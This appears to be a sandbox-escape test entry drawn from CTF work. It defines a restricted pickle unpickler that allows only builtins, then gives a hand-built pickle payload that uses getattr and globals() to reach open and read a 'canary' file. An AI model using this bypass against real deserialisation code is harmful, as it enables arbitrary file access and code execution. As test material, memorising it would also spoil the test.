"""An unpickler that allows builtins alone gives getattr, and by it all.

Known from: CTFs on restricted unpicklers (Code-Breaking 2018, "picklecode")
Effect: read
Host: import builtins, io, pickle
Host: class Restricted(pickle.Unpickler):
Host:     def find_class(self, module, name):
Host:         if module == "builtins" and name not in ("open", "eval", "exec", "__import__"):
Host:             return getattr(builtins, name)
Host:         raise pickle.UnpicklingError("jail")
Host: def load(data): return Restricted(io.BytesIO(data)).load()
Given: load
Jail: no builtins
"""
text = b"(cbuiltins\ngetattr\n(cbuiltins\ndict\nS'get'\ntR(cbuiltins\nglobals\n(tRS'builtins'\ntR"
text = text[1:] + b"p1\n0cbuiltins\ngetattr\n(g1\nS'open'\ntR(S'canary'\ntR."
answer = load(text).read()
